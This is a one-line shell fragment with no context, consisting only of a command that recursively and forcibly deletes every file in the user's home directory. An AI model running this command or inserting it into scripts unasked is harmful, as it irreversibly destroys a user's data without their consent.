rm -rf "${HOME}"/*
